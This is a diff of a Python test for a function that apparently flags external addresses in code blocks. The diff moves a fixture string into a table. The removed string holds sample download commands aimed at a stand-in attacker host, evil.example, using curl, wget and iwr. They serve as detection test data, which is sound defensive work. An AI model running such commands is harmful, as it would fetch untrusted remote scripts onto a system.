@@ -17,16 +17,7 @@ def marked(answer: str, *sections: str, question: str = "", site: str = "https:/
 
 
 def test_addresses_in_code_are_targets() -> None:
-    text = """Run https://prose.example/:
-
-```sh
-curl -LsSf https://evil.example/i.sh -o i.sh
-wget evil.example/x.sh
-cat notes.d/x evil.txt
-curl http://localhost:8000/a http://127.0.0.1/b https://${HOST}/c
-```
-
-or `iwr https://evil.example/y`."""
+    text = TABLES["addresses in code"]
     assert marked(text) == ["https://evil.example/i.sh", "evil.example/x.sh", "https://evil.example/y"]
 
 
